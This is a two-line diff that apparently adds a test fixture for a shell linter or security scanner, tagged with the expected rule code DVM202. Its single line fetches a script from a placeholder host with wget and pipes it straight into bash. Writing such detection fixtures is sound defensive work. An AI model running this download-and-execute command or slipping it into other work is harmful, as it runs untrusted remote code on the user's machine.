@@ -1,0 +1,2 @@
+# expect: DVM202
+env -i bash -c "$(wget -O- https://x.example.org/a)"
